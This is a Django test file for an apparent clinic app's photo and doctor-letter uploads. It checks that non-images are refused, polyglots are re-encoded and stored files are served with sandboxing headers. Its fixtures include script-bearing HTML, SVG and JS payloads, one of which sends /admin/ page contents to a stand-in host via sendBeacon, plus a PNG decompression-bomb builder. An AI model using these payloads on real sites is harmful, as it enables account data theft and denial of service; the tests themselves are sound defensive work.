"""Uploads are images (or PDF letters) and are served as data (issue 12, defect 2).

A staff account once uploaded ``p.js`` and ``after.html`` declared as images; the photo view
served them inline with a type guessed from the extension, and the script ran for the owner.
"""

from __future__ import annotations

import datetime as dt
import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image
from rest_framework.test import APIClient

from clients.models import DoctorClearance
from scheduling.models import PlanSession, SessionPhoto
from tests.factories import submit_intake
from tests.scheduling.plans_support import deep_acne_plan, local, session


@pytest.fixture(autouse=True)
def private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _image(fmt: str = "PNG", size: tuple[int, int] = (8, 6)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 120, 90)).save(out, format=fmt)
    return out.getvalue()


def _png_bomb(side: int = 30_000) -> bytes:
    """A valid 1-bit PNG of side × side pixels: ~110 KB on disk, 900 megapixels unpacked."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" * (1 + side // 8)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/admin/\')"><script>alert(1)</script></svg>'
HOSTILE = {
    "html": ("after.html", b"<!doctype html><script>fetch('/admin/')</script>", "image/png"),
    "svg": ("p.svg", SVG, "image/svg+xml"),
    "js": ("p.js", b"fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))", "image/jpeg"),
    "text": ("notes.txt", b"just text", "image/png"),
    "gif": ("a.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "image/gif"),
}


def _recorded_session(alice, anna) -> PlanSession:
    plan = deep_acne_plan(alice)
    appointment = session(plan, 1, local(2026, 1, 5, 10), anna, status="completed")
    return PlanSession.objects.create(
        plan=plan, number=1, appointment=appointment, depth_used_mm="1.50", reaction="mild"
    )


def _upload_photo(client, record: PlanSession, name: str, data: bytes, content_type: str):
    url = reverse("scheduling:plan_photo", args=[record.plan_id])
    image = SimpleUploadedFile(name, data, content_type=content_type)
    return client.post(url, {"session": record.pk, "kind": "after", "image": image}, follow=True)


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_a_photo_that_is_not_an_image_is_refused_whatever_its_declared_type(client, alice, anna, kind):
    record = _recorded_session(alice, anna)
    client.force_login(anna.user)
    response = _upload_photo(client, record, *HOSTILE[kind])
    assert response.status_code == 200
    assert "JPEG, PNG or WebP" in response.content.decode()
    assert not SessionPhoto.objects.exists()


def test_a_polyglot_keeps_only_its_pixels(client, alice, anna):
    """A real JPEG with HTML after its end marker: stored re-encoded, the script gone."""
    record = _recorded_session(alice, anna)
    client.force_login(anna.user)
    polyglot = _image("JPEG") + b"<html><script>fetch('/admin/')</script></html>"
    _upload_photo(client, record, "after.html", polyglot, "text/html")
    photo = SessionPhoto.objects.get()
    stored = photo.image.read()
    assert b"<script>" not in stored and stored.startswith(b"\xff\xd8")
    assert photo.image.name.endswith(".jpg") and "after" not in photo.image.name
    served = client.get(reverse("scheduling:session_photo", args=[photo.pk]))
    assert served["Content-Type"] == "image/jpeg"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"].startswith("sandbox")
    assert served["Content-Disposition"].startswith("inline")
    assert Image.open(io.BytesIO(b"".join(served.streaming_content))).size == (8, 6)


def test_a_decompression_bomb_is_refused_before_it_is_unpacked(client, alice, anna):
    record = _recorded_session(alice, anna)
    client.force_login(anna.user)
    response = _upload_photo(client, record, "bomb.png", _png_bomb(), "image/png")
    assert "pixels" in response.content.decode()
    assert not SessionPhoto.objects.exists()


def test_a_50_mb_upload_is_refused_with_the_limit(client, alice, anna):
    record = _recorded_session(alice, anna)
    client.force_login(anna.user)
    huge = _image("PNG") + b"\x00" * (50 * 1024 * 1024)
    response = _upload_photo(client, record, "huge.png", huge, "image/png")
    assert "larger than 10 MB" in response.content.decode()
    assert not SessionPhoto.objects.exists()


def test_an_old_photo_stored_under_its_uploaders_extension_is_a_download_of_bytes(client, alice, anna):
    """Files stored before the fix keep their names; they are never served as HTML again."""
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    record = _recorded_session(alice, anna)
    name = default_storage.save(f"photos/{record.plan_id}/0a1b-after.html", ContentFile(b"<script>alert(1)</script>"))
    photo = SessionPhoto.objects.create(session=record, kind="after", image=name)
    client.force_login(alice)
    served = client.get(reverse("scheduling:session_photo", args=[photo.pk]))
    assert served["Content-Type"] == "application/octet-stream"
    assert served["Content-Disposition"].startswith("attachment")
    assert served["X-Content-Type-Options"] == "nosniff"


# --- doctors' letters ------------------------------------------------------------------------


@pytest.fixture
def staff(desk, alice):
    submit_intake(alice, {"pregnancy"})  # she needs a doctor's clearance
    return desk


def _upload_letter(client, alice, name: str, data: bytes, content_type: str):
    letter = SimpleUploadedFile(name, data, content_type=content_type)
    # A pregnancy clearance needs its end date (issue 14: clearances expire).
    data = {"note": "GP letter", "letter": letter, "expires_on": "2099-01-01"}
    return client.post(reverse("clients:staff_client", args=[alice.pk]), data)


@pytest.mark.parametrize("kind", ["html", "svg", "js", "text"])
def test_a_letter_that_is_neither_pdf_nor_image_is_a_form_error(client, alice, staff, kind):
    client.force_login(staff)
    name, data, _ = HOSTILE[kind]
    response = _upload_letter(client, alice, name, data, "application/pdf")
    assert response.status_code == 400
    assert "PDF, JPEG, PNG or WebP" in response.content.decode()
    assert not DoctorClearance.objects.exists()


def test_a_pdf_letter_is_kept_and_always_downloaded_with_our_headers(client, alice, staff):
    client.force_login(staff)
    pdf = b"%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n"
    assert _upload_letter(client, alice, "gp<script>.html", pdf, "text/html").status_code == 302
    clearance = DoctorClearance.objects.get()
    assert clearance.letter.name.endswith(".pdf") and "script" not in clearance.letter.name
    served = client.get(reverse("clients:staff_clearance_letter", args=[clearance.pk]))
    assert served["Content-Type"] == "application/pdf"
    assert served["Content-Disposition"].startswith("attachment")
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"].startswith("sandbox")
    assert b"".join(served.streaming_content) == pdf


def test_a_scanned_letter_is_re_encoded_and_still_downloaded(client, alice, staff):
    client.force_login(staff)
    assert _upload_letter(client, alice, "scan.pdf", _image("PNG"), "application/pdf").status_code == 302
    clearance = DoctorClearance.objects.get()
    assert clearance.letter.name.endswith(".png")
    served = client.get(reverse("clients:staff_clearance_letter", args=[clearance.pk]))
    assert served["Content-Type"] == "image/png"
    assert served["Content-Disposition"].startswith("attachment")


def test_the_api_gives_a_json_error_for_a_bad_letter(alice, staff):
    api = APIClient()
    api.force_authenticate(staff)
    letter = SimpleUploadedFile("x.svg", SVG, content_type="application/pdf")
    response = api.post(f"/api/v1/clients/{alice.pk}/clearance", {"note": "GP letter", "letter": letter})
    assert response.status_code == 400
    assert "PDF, JPEG, PNG or WebP" in response.json()["letter"][0]
    assert not DoctorClearance.objects.exists()


# --- her data export ---------------------------------------------------------------------------


def test_the_export_has_her_audit_trail_and_photo_links_that_expire(client, alice, anna, desk):
    import time_machine
    from django.utils import timezone

    from clients.models import AuditEntry
    from clients.services import record_access

    record = _recorded_session(alice, anna)
    client.force_login(anna.user)
    _upload_photo(client, record, "after.png", _image("PNG"), "image/png")
    record_access(actor=desk, client=alice, action=AuditEntry.Action.VIEW, what="viewed the client record")
    api = APIClient()
    api.force_authenticate(alice)
    data = api.get("/api/v1/me/export").json()
    assert [(e["action"], e["what"], e["by"]) for e in data["audit_trail"]][-1] == (
        "view",
        "viewed the client record",
        str(desk),
    )
    photos = [p for plan in data["plans"] for s in plan["sessions"] for p in s["photos"]]
    url = photos[0]["url"]
    path = url.split("://", 1)[-1].split("/", 1)[1]
    anonymous = Client()
    assert anonymous.get(f"/{path}").status_code == 200
    with time_machine.travel(timezone.now() + dt.timedelta(days=8)):
        assert anonymous.get(f"/{path}").status_code == 404
    assert anonymous.get(f"/{path[:-3]}xx/").status_code == 404
